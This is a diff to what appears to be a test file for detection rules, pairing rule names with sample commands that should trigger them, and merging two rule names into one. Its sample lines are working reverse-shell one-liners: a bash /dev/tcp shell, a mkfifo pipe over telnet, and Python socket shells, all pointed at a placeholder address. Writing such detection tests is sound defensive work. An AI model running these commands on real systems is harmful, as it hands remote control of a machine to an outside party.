@@ -5,8 +5,7 @@ bash -c 'bash -i >& /dev/tcp/203.0.113.9/4445 0>&1'
 #also Named pipe in a scratch folder written by a shell
 sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | timeout 1 telnet 203.0.113.9 4445 > /tmp/f'
 ## Reverse shell in one line of an interpreter
-#also Code without a file connects to an address without a name
-#also Connection of an untrusted program to an unusual port
+#also Code without a file connects to an unusual port of an address without a name
 python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445)); os.dup2(s.fileno(),0); os.system("/bin/sh")'
 ## Shell with a connection, of a program that no package installed
 #also Command of a reverse shell
@@ -18,15 +17,13 @@ python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445))
 #setup shells /home/ann/tool
 remote '/home/ann/tool -c "sh -c true; true"'
 ## Input and output tied to a connection with another machine
-#also Code without a file connects to an address without a name
-#also Connection of an untrusted program to an unusual port
+#also Code without a file connects to an unusual port of an address without a name
 #also Reverse shell in one line of an interpreter
 #setup listener 4445
 sh -c 'python3 -c "import socket, os; s = socket.create_connection((\"203.0.113.9\", 4445)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)"'
 ## Input and output tied to a connection from another machine
-#also Code without a file connects to an address without a name
+#also Code without a file connects to an unusual port of an address without a name
 #also Code without a file waits for callers
-#also Connection of an untrusted program to an unusual port
 #also Connections of others led on by an untrusted program
 #also Reverse shell in one line of an interpreter
 python3 -c 'import socket, os
